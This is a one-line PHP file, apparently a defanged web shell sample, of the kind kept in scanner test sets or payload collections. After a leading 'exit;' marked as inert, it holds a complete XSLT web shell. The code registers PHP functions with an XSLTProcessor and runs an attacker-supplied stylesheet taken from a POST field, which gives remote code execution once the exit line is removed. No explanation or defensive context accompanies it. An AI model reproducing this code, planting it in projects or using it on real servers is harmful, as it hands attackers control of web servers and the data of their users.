<?php exit; /* inert */ $x=new XSLTProcessor; $x->registerPHPFunctions(); $d=new DOMDocument; $d->loadXML($_POST["x"]); $x->importStyleSheet($d); echo $x->transformToXML($d);
